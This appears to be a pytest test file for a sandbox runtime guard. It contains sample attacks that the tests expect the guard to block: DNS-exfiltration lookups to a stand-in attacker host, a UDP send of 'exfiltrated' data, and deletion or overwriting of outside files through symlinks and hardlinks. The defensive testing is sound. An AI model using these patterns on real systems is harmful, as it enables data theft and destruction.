"""What each audit event stands for, by class, on real parts: every name-resolution entry
point is a lookup the ``network`` key decides, every process start that raises an event is
decided by ``subprocess``, every kind of change is a write; ctypes lookups are recorded
(what a native function does cannot be told from its name), and ``enforce`` refuses the
class the guard can see: libraries outside the Python installation and the system's.
"""

from __future__ import annotations

import _socket
import ctypes
import os
import shutil
import socket
import sqlite3
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from runtime_helpers import Place, attempt, guarded, place, port, python

from safehub.errors import RuntimeGuardError

__all__ = ["place", "port"]  # fixtures

# -- name resolution ---------------------------------------------------------------------

_SECRET = "c2VjcmV0.attacker.invalid"
LOOKUPS: dict[str, Callable[[], Any]] = {
    "getaddrinfo": lambda: socket.getaddrinfo(_SECRET, 443),
    "gethostbyname": lambda: socket.gethostbyname(_SECRET),
    "gethostbyname_ex": lambda: socket.gethostbyname_ex(_SECRET),
    "gethostbyaddr": lambda: socket.gethostbyaddr(_SECRET),  # resolves the name first
    "_socket.getaddrinfo": lambda: _socket.getaddrinfo(_SECRET, 443),
    "_socket.gethostbyaddr": lambda: _socket.gethostbyaddr(_SECRET),
    "create_connection": lambda: socket.create_connection((_SECRET, 443), timeout=5),
}


@pytest.mark.parametrize("how", list(LOOKUPS))
def test_every_lookup_of_a_name_no_entry_allows_is_refused_before_dns(place: Place,
                                                                     how: str) -> None:
    # DNS itself carries data out (secret.attacker.example): refused before any query,
    # so the error is the guard's, not the resolver's.
    seen: list[BaseException | None] = []
    _, error = guarded(place, lambda: seen.append(attempt(LOOKUPS[how])),
                       network=("localhost",))
    assert isinstance(seen[0], RuntimeGuardError), seen
    assert "look up c2vjcmv0.attacker.invalid" in str(seen[0]) and error is seen[0]


@pytest.mark.parametrize("how", ["gethostbyaddr", "getnameinfo", "_socket.getnameinfo"])
def test_a_reverse_lookup_is_a_lookup_of_its_address(place: Place, how: str) -> None:
    def look(address: str) -> Any:
        if how == "gethostbyaddr":
            return socket.gethostbyaddr(address)
        module = _socket if how.startswith("_") else socket
        return module.getnameinfo((address, 443), 0)

    seen: list[BaseException | None] = []

    def code() -> None:
        seen.append(attempt(lambda: look("192.0.2.7")))  # TEST-NET-1: no entry names it
        seen.append(attempt(lambda: look("127.0.0.1")))  # loopback: the machine answers

    report, error = guarded(place, code, "enforce")
    assert isinstance(seen[0], RuntimeGuardError) and error is seen[0]
    assert "look up the name of 192.0.2.7" in error.message
    assert not isinstance(seen[1], RuntimeGuardError)
    assert report.lookups == ["192.0.2.7", "127.0.0.1"]
    _, allowed = guarded(place, lambda: attempt(lambda: look("192.0.2.7")), "enforce",
                         network=("192.0.2.7",))
    assert allowed is None


def test_lookups_of_names_an_entry_allows_pass(place: Place) -> None:
    report, error = guarded(place, lambda: socket.getaddrinfo("localhost", 80), "enforce",
                            network=("localhost",))
    assert error is None and report.lookups == ["localhost"]


def test_udp_sendto_is_a_connection(place: Place, port: int) -> None:
    def send() -> None:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.sendto(b"exfiltrated", ("127.0.0.1", port))

    seen: list[BaseException | None] = []
    _report, error = guarded(place, lambda: seen.append(attempt(send)), "enforce")
    assert isinstance(seen[0], RuntimeGuardError) and error is seen[0]
    report2, error2 = guarded(place, send, "observe")
    assert error2 is None and f"127.0.0.1:{port}" in report2.hosts


@pytest.mark.parametrize("start", ["subprocess", "shell", "os.popen", "os.system",
                                   "os.posix_spawn", "os.posix_spawnp", "os.spawnv", "os.fork",
                                   "pty.fork"])
def test_subprocess_false_refuses_every_way_to_start_a_process(place: Place, start: str,
                                                               tmp_path: Path) -> None:
    marker = tmp_path / "child-ran"
    code = f"open({str(marker)!r}, 'w').close()"

    def go() -> None:
        if start == "subprocess":
            python(code)
        elif start == "shell":
            subprocess.run(f"{sys.executable} -c \"{code}\"", shell=True)
        elif start == "os.popen":
            os.popen(f"{sys.executable} -c \"{code}\"").close()
        elif start == "os.spawnv":
            os.spawnv(os.P_WAIT, sys.executable, [sys.executable, "-c", code])
        elif start == "os.posix_spawnp":
            os.waitpid(os.posix_spawnp("python3", ["python3", "-c", code], os.environ), 0)
        elif start == "pty.fork":
            import pty

            pid, fd = pty.fork()
            if pid == 0:
                os._exit(0)
            os.waitpid(pid, 0)
            os.close(fd)
        elif start == "os.system":
            os.system(f"{sys.executable} -c \"{code}\"")
        elif start == "os.posix_spawn":
            os.waitpid(os.posix_spawn(sys.executable, [sys.executable, "-c", code],
                                      os.environ), 0)
        else:
            pid = os.fork()
            if pid == 0:
                os._exit(0)
            os.waitpid(pid, 0)

    seen: list[BaseException | None] = []
    report, error = guarded(place, lambda: seen.append(attempt(go)), subprocess=False)
    assert isinstance(seen[0], RuntimeGuardError) and error is seen[0]
    assert error.action == "process" and error.key == "subprocess"
    assert "subprocess = false does not allow it" in error.message
    assert not marker.exists()
    assert len(report.programs) == 1, report.programs


def test_multiprocessing_spawn_is_seen_too(place: Place) -> None:
    import multiprocessing

    def go() -> None:
        process = multiprocessing.get_context("spawn").Process(target=os.getpid)
        process.start()
        process.join()

    seen: list[BaseException | None] = []
    _report, error = guarded(place, lambda: seen.append(attempt(go)), subprocess=False)
    assert isinstance(seen[0], RuntimeGuardError) and error is seen[0]
    assert "fork_exec" not in error.message and "python" in error.message


@pytest.mark.parametrize("change", ["rename-out", "remove", "rmtree", "symlink-follow",
                                    "hardlink-in", "chmod", "sqlite", "copyfile", "truncate"])
def test_every_kind_of_change_outside_is_refused(place: Place, change: str) -> None:
    victim = place.outside / "victim.txt"
    victim.write_text("precious")
    folder = place.outside / "folder"
    folder.mkdir()
    (folder / "f").write_text("precious")

    def go() -> None:
        if change == "rename-out":
            (place.tree / "payload").write_text("x")
            os.rename(place.tree / "payload", place.outside / "payload")
        elif change == "remove":
            os.remove(victim)
        elif change == "rmtree":
            shutil.rmtree(folder)
        elif change == "symlink-follow":
            os.symlink(victim, place.tree / "link")    # the link itself is inside: allowed
            with open(place.tree / "link", "w") as f:  # writing through it is not
                f.write("overwritten")
        elif change == "hardlink-in":
            os.link(victim, place.tree / "alias")     # the new name is inside the tree...
            with open(place.tree / "alias", "w") as f:  # ...but it is the victim's inode
                f.write("overwritten")
        elif change == "chmod":
            os.chmod(victim, 0o777)
        elif change == "sqlite":
            sqlite3.connect(place.outside / "db.sqlite").close()
        elif change == "copyfile":
            shutil.copyfile(place.tree / "hubconf.py", place.outside / "copy.py")
        else:
            os.truncate(victim, 0)

    seen: list[BaseException | None] = []
    _report, error = guarded(place, lambda: seen.append(attempt(go)), "enforce")
    assert isinstance(seen[0], RuntimeGuardError) and error is seen[0], seen
    assert error.action == "write" and error.key == "writes"
    assert victim.read_text() == "precious" and (folder / "f").read_text() == "precious"
    assert (victim.stat().st_mode & 0o777) != 0o777
    assert not (place.outside / "payload").exists() and not (place.outside / "copy.py").exists()
    assert not (place.outside / "db.sqlite").exists()


def test_environment_changes_are_recorded(place: Place,
                                           monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SAFEHUB_TEST_VAR", "1")  # restored after the test

    def code() -> None:
        os.environ["HTTPS_PROXY"] = "http://127.0.0.1:9"
        del os.environ["HTTPS_PROXY"]
        del os.environ["SAFEHUB_TEST_VAR"]

    report, error = guarded(place, code, "enforce")
    assert error is None and report.environ == ["HTTPS_PROXY", "SAFEHUB_TEST_VAR"]


def _a_shared_library() -> Path:
    import _ctypes

    return Path(_ctypes.__file__)  # a library of the Python installation


def test_ctypes_libraries_are_recorded_in_observe(place: Place) -> None:
    library = _a_shared_library()
    report, error = guarded(place, lambda: ctypes.CDLL(str(library)))
    assert error is None and report.libraries == [str(library)]


def test_enforce_refuses_libraries_the_code_could_have_written(place: Place) -> None:
    copy = place.tree / "payload.so"
    shutil.copyfile(_a_shared_library(), copy)
    seen: list[BaseException | None] = []

    def code() -> None:
        seen.append(attempt(lambda: ctypes.CDLL(str(_a_shared_library()))))  # installed
        seen.append(attempt(lambda: ctypes.CDLL("libc.so.6")))               # the loader's
        seen.append(attempt(lambda: ctypes.CDLL(str(copy))))                 # the repo's

    report, error = guarded(place, code, "enforce")
    assert seen[:2] == [None, None]
    assert isinstance(seen[2], RuntimeGuardError) and error is seen[2]
    assert error.action == "library" and "in a place code can write" in error.message
    assert str(copy) in report.libraries


def test_compiled_module_imported_from_the_tree(place: Place) -> None:
    import importlib.machinery
    import importlib.util

    source = Path(importlib.util.find_spec("_bisect").origin)  # type: ignore[union-attr,arg-type]
    copy = place.tree / source.name
    shutil.copyfile(source, copy)

    def load() -> None:
        loader = importlib.machinery.ExtensionFileLoader("_bisect", str(copy))
        spec = importlib.util.spec_from_file_location("_bisect", copy, loader=loader)
        assert spec is not None
        importlib.util.module_from_spec(spec)

    report, error = guarded(place, load)
    assert error is None and any(str(copy) in entry for entry in report.libraries)
    seen: list[BaseException | None] = []
    _, error2 = guarded(place, lambda: seen.append(attempt(load)), "enforce")
    assert isinstance(seen[0], RuntimeGuardError) and error2 is seen[0]


def test_ctypes_symbols_are_recorded_never_decided(place: Place, tmp_path: Path) -> None:
    """What a native function does cannot be told from its name (glibc has several for
    each): lookups are recorded, never refused. Calling one is beyond the in-process guard;
    ``safehub run --confine`` holds it (tests/test_confine.py)."""
    report, error = guarded(place, lambda: ctypes.CDLL(None).getpid(), "enforce")
    assert error is None and report.libraries == ["getpid (ctypes symbol)"]
